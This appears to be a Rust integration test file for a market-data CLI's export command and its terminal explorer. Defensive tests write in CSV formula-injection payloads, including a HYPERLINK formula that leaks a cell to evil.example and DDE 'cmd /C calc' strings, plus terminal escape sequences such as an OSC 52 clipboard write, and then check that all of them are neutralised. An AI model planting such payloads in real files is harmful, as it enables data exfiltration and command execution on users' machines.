//! `marketlens export` as a user and a script run it, and the explorer's `e` writing the same
//! bytes as the command line for the same view.

mod common;
use common::{stderr, stdout};
use std::io::Read;
use std::process::{Command, Output, Stdio};

use marketlens::kb;
use marketlens::tui::app::{App, Effect, Msg};
use marketlens::view::Tab;
use ratatui::crossterm::event::{KeyCode, KeyEvent, KeyModifiers};

const BIN: &str = env!("CARGO_BIN_EXE_marketlens");
/// 2025-11-22 15:30 UTC, for `SOURCE_DATE_EPOCH`.
const EPOCH: &str = "1763825400";

fn marketlens(args: &[&str]) -> Output {
    Command::new(BIN)
        .args(args)
        .env("SOURCE_DATE_EPOCH", EPOCH)
        .output()
        .expect("binary runs")
}

#[test]
fn deals_matching_aws_as_markdown() {
    let o = marketlens(&["export", "--tab", "deals", "--query", "aws", "--format", "md"]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(stderr(&o), "", "data on stdout, nothing else");
    let out = stdout(&o);
    let lines: Vec<&str> = out.lines().collect();
    assert!(lines[0].starts_with("# ") && lines[0].contains("Deals"), "{out}");
    assert!(out.contains("`aws`") && out.contains("2025-11-22 15:30"), "{out}");
    let table: Vec<&&str> = lines.iter().filter(|l| l.starts_with('|')).collect();
    assert!(table.len() >= 3, "header, alignment row and rows: {out}");
    assert!(table[1].contains("---"), "{out}");
    assert!(table.iter().skip(2).any(|l| l.contains("TikTok")), "{out}");
}

#[test]
fn every_format_to_stdout_and_by_extension_to_a_file() {
    let dir = tempfile::tempdir().unwrap();
    for (format, ext) in [("txt", "txt"), ("md", "md"), ("csv", "csv"), ("json", "json")] {
        let o = marketlens(&["export", "--tab", "vendors", "--format", format]);
        assert!(o.status.success(), "{format}: {}", stderr(&o));
        let path = dir.path().join(format!("v.{ext}"));
        let f = marketlens(&["export", "--tab", "vendors", "--out", path.to_str().unwrap()]);
        assert!(f.status.success(), "{format}: {}", stderr(&f));
        assert_eq!(stdout(&f), "", "{format}: nothing on stdout with --out");
        assert!(stderr(&f).contains("exported"), "{format}: {}", stderr(&f));
        assert_eq!(
            std::fs::read(&path).unwrap(),
            o.stdout,
            "{format}: --out writes what stdout gets"
        );
    }
    let json: serde_json::Value =
        serde_json::from_slice(&marketlens(&["export", "--tab", "vendors", "--format", "json"]).stdout)
            .unwrap();
    assert!(json.as_array().is_some_and(|a| !a.is_empty()));
}

#[test]
fn sort_by_a_column_and_bad_columns_say_which_exist() {
    let o = marketlens(&["export", "--tab", "deals", "--sort", "date", "--format", "csv"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let headers = csv::Reader::from_reader(o.stdout.as_slice())
        .headers()
        .unwrap()
        .clone();
    let date = headers.iter().position(|h| h == "Date").expect("a Date column");
    let dates = |out: &[u8]| -> Vec<String> {
        let mut r = csv::Reader::from_reader(out);
        r.records()
            .map(|x| x.unwrap()[date].to_string())
            .filter(|d| !d.is_empty())
            .collect()
    };
    let asc = dates(&o.stdout);
    // Periods sort by time, not as text (by start, the wider first: 2025-H1, 2025-Q2, 2025-04);
    // `*` marks an inferred date. First and last known.
    assert_eq!(
        (asc.first().map(String::as_str), asc.last().map(String::as_str)),
        (Some("2020*"), Some("2025-10-20*"))
    );
    let desc = marketlens(&[
        "export",
        "--tab",
        "deals",
        "--sort",
        "Date:desc",
        "--format",
        "csv",
    ]);
    assert!(desc.status.success());
    // Descending is ascending reversed (ties keep the KB's order both ways, and an inferred date,
    // `2022*`, ties with a stated one, `2022`: compared without the cue).
    let plain = |v: Vec<String>| -> Vec<String> {
        v.into_iter()
            .map(|d| d.trim_end_matches('*').to_string())
            .collect()
    };
    let mut back = plain(dates(&desc.stdout));
    back.reverse();
    assert_eq!(back, plain(asc), "descending is ascending reversed");

    let bad = marketlens(&["export", "--tab", "deals", "--sort", "amout"]);
    assert_eq!(bad.status.code(), Some(1));
    assert_eq!(stdout(&bad), "");
    let err = stderr(&bad);
    assert!(
        err.contains("amout") && err.contains("did you mean `amount`"),
        "{err}"
    );
}

#[test]
fn bad_input_exits_1_with_the_reason() {
    let tab = marketlens(&["export", "--tab", "dealz"]);
    assert_eq!(tab.status.code(), Some(1), "{}", stderr(&tab));
    let none = marketlens(&["export"]);
    assert_eq!(none.status.code(), Some(1), "{}", stderr(&none));
    let q = marketlens(&["export", "--tab", "deals", "--query", "amount>>"]);
    assert_eq!(q.status.code(), Some(1));
    assert!(stderr(&q).contains('^'), "{}", stderr(&q));
    let rec = marketlens(&["export", "--record", "aws-tiktok-order-2025"]);
    assert_eq!(rec.status.code(), Some(1));
    assert!(stderr(&rec).contains("did you mean"), "{}", stderr(&rec));
    let ext = marketlens(&["export", "--tab", "deals", "--out", "deals.xlsx"]);
    assert_eq!(ext.status.code(), Some(1));
    assert!(stderr(&ext).contains("--format"), "{}", stderr(&ext));
    // An invalid KB: the check errors, exit 1.
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("kb.toml");
    std::fs::write(&p, "[[vendor]]\nid = \"a\"\nname = \"A\"\nsources = [\"nope\"]\n").unwrap();
    let kb = marketlens(&["export", "--tab", "vendors", "--kb", p.to_str().unwrap()]);
    assert_eq!(kb.status.code(), Some(1));
    assert!(stderr(&kb).contains("nope"), "{}", stderr(&kb));
}

#[test]
fn one_record_in_every_format() {
    for f in ["txt", "md", "csv", "json"] {
        let o = marketlens(&["export", "--record", "aws-tiktok-order-2025q2", "--format", f]);
        assert!(o.status.success(), "{f}: {}", stderr(&o));
        assert!(stdout(&o).contains("TikTok"), "{f}: {}", stdout(&o));
    }
}

/// `marketlens export`, `search` and `check` on the hostile fixture write no control, bidi or
/// zero-width character raw, in any format, to standard output, standard error or a file.
#[test]
fn hostile_kb_reaches_no_output_raw() {
    let kb = format!("{}/tests/fixtures/good/hostile.toml", env!("CARGO_MANIFEST_DIR"));
    let dir = tempfile::tempdir().unwrap();
    let run = |args: &[&str], what: &str| {
        let mut all = vec!["--kb", kb.as_str()];
        all.extend_from_slice(args);
        let o = marketlens(&all);
        assert!(o.status.success(), "{what}: {}", stderr(&o));
        let newlines = true; // Lines of text; CSV quotes a line break inside a field.
        common::assert_inert_bytes(&o.stdout, newlines, &format!("{what}: stdout"));
        common::assert_inert_bytes(&o.stderr, newlines, &format!("{what}: stderr"));
        o
    };
    let formats = ["txt", "md", "csv", "json"];
    for tab in [
        "vendors",
        "executives",
        "deals",
        "trends",
        "sources",
        "facts",
        "reports",
    ] {
        for f in formats {
            let o = run(&["export", "--tab", tab, "--format", f], &format!("{tab} {f}"));
            assert!(stdout(&o).contains("PWNED"), "{tab} {f}: {}", stdout(&o));
            let file = dir.path().join(format!("{tab}.{f}"));
            let path = file.to_str().unwrap();
            run(
                &["export", "--tab", tab, "--query", "pwned", "--out", path],
                &format!("{tab} {f} file"),
            );
            let bytes = std::fs::read(&file).unwrap();
            common::assert_inert_bytes(&bytes, true, &format!("{}", file.display()));
        }
    }
    for id in [
        "src-1", "src-2", "vendor-1", "vendor-2", "exec-1", "exec-2", "deal-1", "deal-2", "series-1",
        "series-2", "report-1", "report-2", "fact-1", "fact-2",
    ] {
        for f in formats {
            let o = run(&["export", "--record", id, "--format", f], &format!("{id} {f}"));
            assert!(stdout(&o).contains("PWNED"), "{id} {f}: {}", stdout(&o));
        }
    }
    for f in formats {
        run(
            &["search", "pwned", "--limit", "0", "--format", f],
            &format!("search {f}"),
        );
    }
    run(&["check"], "check");
}

/// KB text a spreadsheet would run as a formula (`=HYPERLINK(…)`, `=cmd|' /C calc'!A0`, `@…`,
/// `+…`, `-…`) reaches no CSV export as a formula: such a cell starts with `'` and is quoted,
/// on every tab, every record and the search results; plain negative numbers stay numbers.
#[test]
fn csv_exports_neutralise_formulas_and_keep_negative_numbers() {
    let dir = tempfile::tempdir().unwrap();
    let kb = dir.path().join("kb.toml");
    std::fs::write(
        &kb,
        r#"
[[source]]
id = "s"
title = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
publisher = "@SUM(1+1)*cmd|' /C calc'!A0"
date = 2025-09-11

[[vendor]]
id = "v"
name = "=cmd|' /C calc'!A0"
name_en = "+1+cmd|' /C calc'!A0"
segments = ["-2+3", "@x"]
sources = ["s"]

[[executive]]
id = "e"
name = "@exec"
title = "-1+1"
vendor = "v"
sources = ["s"]

[[deal]]
id = "d"
title = "	=1+1 after a tab"
kind = "order"
vendors = ["v"]
date = "2025-Q2"
summary = "-cmd"
sources = ["s"]

[[series]]
id = "g"
name = "=2*3"
vendor = "v"
metric = "growth"
unit = "%"
sources = ["s"]
points = [ { period = "2025-Q1", value = -12 }, { period = "2025-Q2", value = -3.5 } ]
"#,
    )
    .unwrap();
    let kb = kb.to_str().unwrap();
    let mut csvs = Vec::new();
    for tab in ["vendors", "executives", "deals", "trends", "sources"] {
        csvs.push((
            tab.to_string(),
            marketlens(&["--kb", kb, "export", "--tab", tab, "--format", "csv"]),
        ));
    }
    for id in ["s", "v", "e", "d", "g"] {
        csvs.push((
            id.to_string(),
            marketlens(&["--kb", kb, "export", "--record", id, "--format", "csv"]),
        ));
    }
    csvs.push((
        "search".into(),
        marketlens(&["--kb", kb, "search", "", "--format", "csv"]),
    ));
    let mut neutralised = 0;
    for (what, o) in &csvs {
        assert!(o.status.success(), "{what}: {}", stderr(o));
        let out = stdout(o);
        for rec in csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(out.as_bytes())
            .records()
        {
            for cell in rec.unwrap().iter() {
                let risky = cell.trim_start().starts_with(['=', '+', '-', '@', '\t', '\r']);
                let number = cell
                    .trim_start_matches(['-', '+'])
                    .trim_end_matches('%')
                    .parse::<f64>()
                    .is_ok();
                assert!(!risky || number, "{what}: formula cell {cell:?} in\n{out}");
                if cell.starts_with('\'') {
                    neutralised += 1;
                    assert!(
                        out.contains(&format!("\"{}", cell.replace('"', "\"\""))),
                        "{what}: unquoted {cell:?}"
                    );
                }
            }
        }
    }
    assert!(neutralised >= 10, "{neutralised}");
    let series = stdout(&csvs[9].1);
    assert!(
        series.contains("\n2025-Q1,-12%\n") || series.contains("\n2025-Q1,-12\n"),
        "{series}"
    );
    assert!(series.contains("'=2*3"), "{series}");
}

/// A query's error quotes the query: every filter's error, on `search` and `export --query`,
/// shows hostile input escaped (`\u{1b}]52;…`), never raw, with the caret under its column as
/// shown.
#[test]
fn hostile_query_errors_are_escaped() {
    let payloads = [
        "\x1b]52;c;cHduZWQ=\x07",
        "\x1b[2J\u{9b}31m",
        "\u{202e}x\u{2066}",
        "\u{200b}\u{feff}\u{7f}",
    ];
    for filter in [
        "kind:", "year:", "period:", "metric:", "value>", "amount>", "vendor:", "source:", "nope:",
    ] {
        for p in payloads {
            let q = format!("{filter}{p}");
            for args in [
                vec!["search", q.as_str()],
                vec!["export", "--tab", "deals", "--query", q.as_str()],
            ] {
                let o = marketlens(&args);
                let what = format!("{args:?}");
                assert_eq!(o.status.code(), Some(1), "{what}: {}", stderr(&o));
                common::assert_inert_bytes(&o.stderr, true, &what);
                let err = stderr(&o);
                assert!(err.starts_with("error: bad query: column "), "{what}: {err}");
                // The query line and the caret under the start of the filter's value.
                let lines: Vec<&str> = err.lines().collect();
                let shown = lines[1].strip_prefix("  ").unwrap();
                assert!(
                    shown.starts_with(filter) && shown.contains("\\u{"),
                    "{what}: {err}"
                );
                let caret = lines[2].find('^').unwrap() - 2;
                let col: usize = lines[0]["error: bad query: column ".len()..]
                    .split(':')
                    .next()
                    .and_then(|c| c.parse().ok())
                    .unwrap();
                let before: String = q.chars().take(col - 1).collect();
                assert_eq!(
                    caret,
                    marketlens::text::width(&marketlens::text::escape_controls(&before)),
                    "{what}: {err}"
                );
            }
        }
    }
}

#[test]
fn never_clobbers_without_force_and_io_failures_exit_2() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("deals.md");
    std::fs::write(&p, "precious").unwrap();
    let o = marketlens(&["export", "--tab", "deals", "--out", p.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("--force"), "{}", stderr(&o));
    assert_eq!(std::fs::read_to_string(&p).unwrap(), "precious");
    let forced = marketlens(&[
        "export",
        "--tab",
        "deals",
        "--out",
        p.to_str().unwrap(),
        "--force",
    ]);
    assert!(forced.status.success(), "{}", stderr(&forced));
    assert!(std::fs::read_to_string(&p).unwrap().contains("| Date"));
    let entries = std::fs::read_dir(dir.path()).unwrap().count();
    assert_eq!(entries, 1, "no temporary files left behind");

    let missing = dir.path().join("no/such/dir/deals.md");
    let o = marketlens(&["export", "--tab", "deals", "--out", missing.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(stderr(&o).starts_with("error: "), "{}", stderr(&o));
    let at_dir = marketlens(&[
        "export",
        "--tab",
        "deals",
        "--out",
        dir.path().to_str().unwrap(),
        "--format",
        "md",
    ]);
    assert_ne!(at_dir.status.code(), Some(0));
}

#[test]
fn a_reader_that_stops_early_is_not_an_error() {
    // `marketlens export … | head -1`: the pipe closes after one line.
    let mut child = Command::new(BIN)
        .args(["export", "--tab", "deals", "--format", "json"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut first = [0u8; 1];
    child.stdout.take().unwrap().read_exact(&mut first).unwrap(); // then drop: the pipe closes
    let out = child.wait_with_output().unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(String::from_utf8_lossy(&out.stderr), "");
}

fn key(app: &mut App, code: KeyCode) {
    app.update(Msg::Key(KeyEvent::new(code, KeyModifiers::NONE)));
    app.settle();
}

fn type_text(app: &mut App, s: &str) {
    for c in s.chars() {
        key(app, KeyCode::Char(c));
    }
}

fn fixed_clock() -> marketlens::clock::Stamp {
    marketlens::clock::Stamp {
        date: "2025-11-22 15:30".into(),
        file: "20251122-1530".into(),
    }
}

/// The explorer on the built-in KB, exporting into a fresh directory at a fixed time.
fn explorer() -> (tempfile::TempDir, App) {
    let dir = tempfile::tempdir().unwrap();
    let l = kb::load_builtin();
    let mut app = App::new(l.kb, l.label, 120, 40);
    app.export_dir = dir.path().to_path_buf();
    app.clock = fixed_clock;
    (dir, app)
}

/// `e`, the proposed name replaced by `name`, Enter: the prompt closes, the status line says it
/// was exported, and the file's text is returned.
fn export_by_keys(app: &mut App, dir: &std::path::Path, name: &str) -> String {
    key(app, KeyCode::Char('e'));
    app.update(Msg::Key(KeyEvent::new(KeyCode::Char('u'), KeyModifiers::CONTROL)));
    type_text(app, name);
    key(app, KeyCode::Enter);
    assert!(app.input.is_none(), "{name}: the prompt closes: {}", app.status);
    assert!(app.status.starts_with("exported"), "{}", app.status);
    String::from_utf8(std::fs::read(dir.join(name)).unwrap()).unwrap()
}

/// The explorer's `e` on the Deals tab filtered by `aws` and sorted, and `marketlens export` of
/// the same tab, query and sort: the same bytes, in every format.
#[test]
fn the_explorer_and_the_command_line_export_identical_files() {
    let (dir, mut app) = explorer();
    key(&mut app, KeyCode::Char('3'));
    assert_eq!(app.tab, Tab::Deals);
    key(&mut app, KeyCode::Char('/'));
    type_text(&mut app, "aws");
    key(&mut app, KeyCode::Enter);
    assert!(app.current().view.len() > 1, "aws matches deals");
    key(&mut app, KeyCode::Char('s')); // sort by the first sortable column
    let sort = app.current().view.sort.clone().expect("sorted");
    let col = sort.key.to_string();
    let sort_arg = if sort.descending {
        format!("{col}:desc")
    } else {
        col
    };
    for ext in ["txt", "md", "csv", "json"] {
        let tui = export_by_keys(&mut app, dir.path(), &format!("tui.{ext}"));
        let o = marketlens(&[
            "export", "--tab", "deals", "--query", "aws", "--sort", &sort_arg, "--format", ext,
        ]);
        assert!(o.status.success(), "{}", stderr(&o));
        assert_eq!(tui, stdout(&o), "{ext}: the explorer and the command line differ");
    }
}

#[test]
fn the_explorer_asks_before_overwriting_and_reports_errors() {
    let (dir, mut app) = explorer();
    let name = "marketlens-vendors-20251122-1530.md";
    std::fs::write(dir.path().join(name), "precious").unwrap();
    key(&mut app, KeyCode::Char('e'));
    key(&mut app, KeyCode::Enter); // the proposed name, which exists
    assert!(app.status.contains("exists"), "{}", app.status);
    key(&mut app, KeyCode::Char('n'));
    assert_eq!(
        std::fs::read_to_string(dir.path().join(name)).unwrap(),
        "precious"
    );
    key(&mut app, KeyCode::Enter);
    key(&mut app, KeyCode::Char('y'));
    assert!(
        app.input.is_none() && app.status.starts_with("exported"),
        "{}",
        app.status
    );
    assert!(
        std::fs::read_to_string(dir.path().join(name))
            .unwrap()
            .contains("Vendors")
    );

    // A path that cannot be written: the message shows, the prompt stays, the app goes on.
    key(&mut app, KeyCode::Char('e'));
    app.update(Msg::Key(KeyEvent::new(KeyCode::Char('u'), KeyModifiers::CONTROL)));
    type_text(&mut app, "missing/dir/x.md");
    key(&mut app, KeyCode::Enter);
    assert!(app.status.starts_with('⚠'), "{}", app.status);
    assert!(app.input.is_some());
    key(&mut app, KeyCode::Esc);
    assert!(app.input.is_none());

    // `E`: the selected record's detail; `C` `v`: the view as text for the clipboard.
    key(&mut app, KeyCode::Char('E'));
    key(&mut app, KeyCode::Enter);
    assert!(app.status.starts_with("exported vendor"), "{}", app.status);
    key(&mut app, KeyCode::Char('C'));
    app.update(Msg::Key(KeyEvent::new(KeyCode::Char('v'), KeyModifiers::NONE)));
    let copied = app
        .settle()
        .into_iter()
        .find_map(|e| match e {
            Effect::Clipboard(text) => Some(text),
            _ => None,
        })
        .expect("text for the clipboard");
    assert!(copied.contains("Vendors") && !copied.contains('\x1b'));
}

/// The built-in KB has yuan and dollar deals and no exchange rate: `export --query` and `search`
/// say on stderr which deals an amount filter left out, and `--sort amount` how it ordered the
/// two currencies; stdout holds only the rows.
#[test]
fn amounts_left_out_for_want_of_a_rate_are_named_on_stderr() {
    let note =
        "note: 5 deals in USD left out of amount>=10亿元: no USD/CNY rate in this KB — add an [[fx]] table\n";
    let o = marketlens(&["export", "--tab", "deals", "--query", "amount>=10亿"]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(stderr(&o), note);
    assert!(
        stdout(&o).contains("3800亿元") && !stdout(&o).contains("note"),
        "{}",
        stdout(&o)
    );
    let o = marketlens(&["search", "amount>=10亿"]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(stderr(&o), note);
    let o = marketlens(&[
        "export",
        "--tab",
        "deals",
        "--sort",
        "amount:desc",
        "--format",
        "csv",
    ]);
    assert_eq!(
        stderr(&o),
        "note: amounts sorted in USD; then, with no rate to USD, 1 amount in CNY\n"
    );
    // One currency: nothing to say.
    let o = marketlens(&["export", "--tab", "deals", "--query", "aws", "--sort", "amount"]);
    assert_eq!(stderr(&o), "");
}

/// `--bom` starts a CSV export with a UTF-8 byte-order mark (for spreadsheet tools); other
/// formats refuse it rather than write a mark that does not belong there.
#[test]
fn bom_starts_a_csv_export_and_is_refused_elsewhere() {
    let o = marketlens(&["export", "--tab", "deals", "--format", "csv", "--bom"]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(o.stdout.starts_with("\u{feff}Date,".as_bytes()));
    let plain = marketlens(&["export", "--tab", "deals", "--format", "csv"]);
    assert_eq!(&o.stdout[3..], plain.stdout.as_slice());
    let md = marketlens(&["export", "--tab", "deals", "--format", "md", "--bom"]);
    assert_eq!(md.status.code(), Some(1), "{}", stderr(&md));
    assert!(
        stderr(&md).contains("--bom is for CSV exports"),
        "{}",
        stderr(&md)
    );
}

/// `export --record` shows the detail the explorer shows, "Mentioned in" included: 储瑞松 is
/// named in a deal's summary.
#[test]
fn a_record_export_lists_the_records_that_mention_it() {
    let kb = kb::load_builtin().kb;
    let who = kb.executives.iter().find(|e| e.name == "储瑞松").unwrap();
    let deal = kb
        .deals
        .iter()
        .find(|d| d.summary.as_deref().is_some_and(|s| s.contains("储瑞松")))
        .expect("a deal naming 储瑞松");
    for format in ["txt", "md"] {
        let o = marketlens(&["export", "--record", &who.id, "--format", format]);
        assert!(o.status.success(), "{}", stderr(&o));
        let out = stdout(&o);
        let at = out
            .find("Mentioned in (")
            .unwrap_or_else(|| panic!("{format}: {out}"));
        assert!(out[at..].contains(&deal.title), "{format}: {out}");
    }
    // CSV has no headings: the deal is a related record's row.
    let o = marketlens(&["export", "--record", &who.id, "--format", "csv"]);
    assert!(
        stdout(&o).contains(&format!("Deal,{}", deal.title)),
        "{}",
        stdout(&o)
    );
}

/// Compare, pivoted by reports in the explorer (`6`, `/` query, `p`) and exported with `e`, is
/// byte for byte what `marketlens export --tab compare --query Q --pivot reports` writes, in every
/// format; each format reads back: the CSV with the csv crate (every row as wide as the header,
/// the report columns in it), the Markdown as a table whose rows have as many cells as its
/// header, the JSON as an array of objects keyed by the columns.
#[test]
fn the_compare_pivot_exports_the_same_from_the_explorer_and_the_command_line() {
    let (dir, mut app) = explorer();
    let q = "metric:market-share market:中国 period:2025-H1";
    key(&mut app, KeyCode::Char('6'));
    assert_eq!(app.tab, Tab::Compare);
    key(&mut app, KeyCode::Char('/'));
    type_text(&mut app, q);
    key(&mut app, KeyCode::Enter);
    key(&mut app, KeyCode::Char('p'));
    let v = &app.current().view;
    assert!(
        v.column("omdia 2025-h1").is_some(),
        "columns by reports: {:?}",
        v.columns
    );
    let rows = v.len();
    assert!(rows >= 2, "{rows}");
    for ext in ["txt", "md", "csv", "json"] {
        let tui = export_by_keys(&mut app, dir.path(), &format!("compare.{ext}"));
        let o = marketlens(&[
            "export", "--tab", "compare", "--query", q, "--pivot", "reports", "--format", ext,
        ]);
        assert!(o.status.success(), "{}", stderr(&o));
        assert_eq!(tui, stdout(&o), "{ext}: the explorer and the command line differ");
        match ext {
            "csv" => {
                let mut r = csv::ReaderBuilder::new()
                    .flexible(false)
                    .from_reader(tui.as_bytes());
                let header: Vec<String> = r.headers().unwrap().iter().map(str::to_string).collect();
                assert!(header.iter().any(|h| h == "Omdia 2025-H1"), "{header:?}");
                assert!(header.iter().any(|h| h == "IDC 2025-H1"), "{header:?}");
                let records: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
                assert_eq!(records.len(), rows);
                let omdia = header.iter().position(|h| h == "Omdia 2025-H1").unwrap();
                assert!(records.iter().any(|r| &r[omdia] == "35.8%"), "{records:?}");
            }
            "md" => {
                let table: Vec<&str> = tui.lines().filter(|l| l.starts_with('|')).collect();
                assert_eq!(table.len(), rows + 2, "header, rule, rows:\n{tui}");
                let cells = |l: &str| l.matches('|').count() - l.matches("\\|").count();
                assert!(
                    table
                        .iter()
                        .all(|l| cells(l) == cells(table[0]) && l.ends_with('|')),
                    "{tui}"
                );
                assert!(
                    table[1].chars().all(|c| matches!(c, '|' | '-' | ':' | ' ')),
                    "{}",
                    table[1]
                );
            }
            "json" => {
                let j: serde_json::Value = serde_json::from_str(&tui).unwrap();
                let a = j.as_array().expect("an array of rows");
                assert_eq!(a.len(), rows);
                assert!(
                    a.iter()
                        .any(|r| r["omdia 2025-h1"] == "35.8%" && r["id"] == "aliyun-china-ai-cloud-share")
                );
            }
            _ => assert!(tui.contains("Omdia 2025-H1") && tui.contains("35.8%"), "{tui}"),
        }
    }
}

/// `--sort` on Compare takes a column named by the data (`2025-q2`); one the pivot lacks is an
/// error listing the columns it has.
#[test]
fn compare_sorts_by_a_column_named_by_the_data() {
    let q = "metric:market-share report:canalys";
    let o = marketlens(&[
        "export", "--tab", "compare", "--query", q, "--sort", "2025-Q2", "--format", "csv",
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let firsts: Vec<String> = stdout(&o)
        .lines()
        .skip(1)
        .map(|l| l.split(',').next().unwrap().to_string())
        .collect();
    assert_eq!(firsts, ["谷歌云", "微软云", "亚马逊云科技"], "ascending");
    let o = marketlens(&["export", "--tab", "compare", "--query", q, "--sort", "1999"]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stderr(&o).contains("no column `1999`") && stderr(&o).contains("2025-q2"),
        "{}",
        stderr(&o)
    );
}

/// The Timeline (tab 7) filtered by `from:microsoft` in the explorer and `marketlens export --tab
/// timeline --query from:microsoft`: the same bytes in every format; each format reads back as
/// the moves that left Microsoft, one row per event (CSV by the csv crate, JSON by serde_json, the
/// Markdown table with a cell per column on every line).
#[test]
fn the_timeline_exports_the_same_events_from_the_explorer_and_the_command_line() {
    let (dir, mut app) = explorer();
    key(&mut app, KeyCode::Char('7'));
    assert_eq!(app.tab, Tab::Timeline);
    key(&mut app, KeyCode::Char('/'));
    type_text(&mut app, "from:microsoft");
    key(&mut app, KeyCode::Enter);
    let rows = app.current().view.len();
    assert!(rows >= 3, "moves from Microsoft: {rows}");
    let columns = Tab::Timeline.columns().len();
    for ext in ["txt", "md", "csv", "json"] {
        let tui = export_by_keys(&mut app, dir.path(), &format!("timeline.{ext}"));
        let o = marketlens(&[
            "export",
            "--tab",
            "timeline",
            "--query",
            "from:microsoft",
            "--format",
            ext,
        ]);
        assert!(o.status.success(), "{}", stderr(&o));
        assert_eq!(tui, stdout(&o), "{ext}: the explorer and the command line differ");
        match ext {
            "csv" => {
                let mut r = csv::Reader::from_reader(tui.as_bytes());
                let header: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
                // The view's columns, then the record each event comes from and its sources.
                assert_eq!(header.len(), columns + 3);
                assert_eq!(header[columns..], ["Record", "ID", "Sources"]);
                let from = header.iter().position(|h| h == "From").unwrap();
                let event = header.iter().position(|h| h == "Event").unwrap();
                let records: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
                assert_eq!(records.len(), rows);
                for rec in &records {
                    assert_eq!(&rec[from], "微软", "{rec:?}");
                    assert!(rec[event].starts_with("move"), "{rec:?}");
                }
            }
            "json" => {
                let v: serde_json::Value = serde_json::from_str(&tui).unwrap();
                let a = v.as_array().expect("an array of rows");
                assert_eq!(a.len(), rows);
                assert!(a.iter().all(|r| r["from"] == "微软" && r["kind"] == "executive"));
                assert!(a.iter().any(|r| r["who"] == "袁志明" && r["to"] == "阿里云"));
            }
            "md" => {
                let table: Vec<&str> = tui.lines().filter(|l| l.starts_with('|')).collect();
                assert_eq!(table.len(), rows + 2, "header, rule, a line per event:\n{tui}");
                for line in &table {
                    // Cells: the pipes that are not escaped, less one.
                    let pipes = line.matches('|').count() - line.matches("\\|").count();
                    assert_eq!(pipes, columns + 1, "{line}");
                    assert!(line.ends_with('|'));
                }
                assert!(
                    table[1]
                        .split('|')
                        .filter(|c| !c.is_empty())
                        .all(|c| c.trim() == "---")
                );
            }
            _ => {
                assert!(tui.contains("Quarter") && tui.contains("袁志明"), "{tui}");
                assert_eq!(tui.lines().filter(|l| l.contains("微软")).count(), rows, "{tui}");
            }
        }
    }
}

/// The global cloud share ranking for 2025-Q2 (`6`, `/metric:market-share report:canalys`):
/// `marketlens export --tab compare` ranks the three shares in the 2025-Q2 column, largest
/// first, in every format: the CSV read back by the csv crate with each share, its record and
/// its source; the Markdown table a cell per column on every line; JSON the same values; text
/// aligned. The explorer's `e` writes the same bytes.
#[test]
fn the_canalys_ranking_exports_in_every_format() {
    let (dir, mut app) = explorer();
    let q = "metric:market-share report:canalys";
    key(&mut app, KeyCode::Char('6'));
    key(&mut app, KeyCode::Char('/'));
    type_text(&mut app, q);
    key(&mut app, KeyCode::Enter);
    let want = [
        ("亚马逊云科技", "32%", "aws-global-cloud-share"),
        ("微软云", "22%", "azure-global-cloud-share"),
        ("谷歌云", "11%", "google-cloud-global-cloud-share"),
    ];
    for ext in ["txt", "md", "csv", "json"] {
        let tui = export_by_keys(&mut app, dir.path(), &format!("ranking.{ext}"));
        let o = marketlens(&["export", "--tab", "compare", "--query", q, "--format", ext]);
        assert!(o.status.success(), "{}", stderr(&o));
        let out = stdout(&o);
        assert_eq!(tui, out, "{ext}: the explorer and the command line differ");
        match ext {
            "csv" => {
                let mut r = csv::ReaderBuilder::new()
                    .flexible(false)
                    .from_reader(out.as_bytes());
                let h: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
                let at = |n: &str| {
                    h.iter()
                        .position(|x| x == n)
                        .unwrap_or_else(|| panic!("{n}: {h:?}"))
                };
                let (subject, q2, id, sources, measures) = (
                    at("Subject"),
                    at("2025-Q2"),
                    at("ID"),
                    at("Sources"),
                    at("Measures"),
                );
                let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
                let got: Vec<(&str, &str, &str)> =
                    rows.iter().map(|r| (&r[subject], &r[q2], &r[id])).collect();
                assert_eq!(got, want, "ranked by 2025-Q2, largest first");
                for r in &rows {
                    assert!(r[measures].contains("全球云基础设施服务"), "the market: {r:?}");
                    assert!(!r[sources].is_empty(), "{r:?}");
                }
            }
            "md" => {
                let table: Vec<&str> = out.lines().filter(|l| l.starts_with('|')).collect();
                assert_eq!(table.len(), want.len() + 2, "{out}");
                let cells = |l: &str| l.replace(r"\\", "").replace(r"\|", "").matches('|').count();
                assert!(table.iter().all(|l| cells(l) == cells(table[0])), "{out}");
                for (row, (who, share, _)) in table[2..].iter().zip(want) {
                    assert!(
                        row.starts_with(&format!("| {who} |")) && row.contains(&format!("| {share} |")),
                        "{row}"
                    );
                }
            }
            "json" => {
                let j: serde_json::Value = serde_json::from_str(&out).unwrap();
                let got: Vec<(&str, &str, &str)> = j
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|r| {
                        (
                            r["subject"].as_str().unwrap(),
                            r["2025-q2"].as_str().unwrap(),
                            r["id"].as_str().unwrap(),
                        )
                    })
                    .collect();
                assert_eq!(got, want);
            }
            _ => {
                let lines: Vec<&str> = out.lines().collect();
                assert!(lines[0].starts_with("Compare — 3 rows"), "{out}");
                let at = lines.iter().position(|l| l.starts_with("---")).unwrap();
                for (l, (who, share, _)) in lines[at + 1..].iter().zip(want) {
                    assert!(l.starts_with(who) && l.trim_end().ends_with(share), "{l}");
                }
            }
        }
    }
}

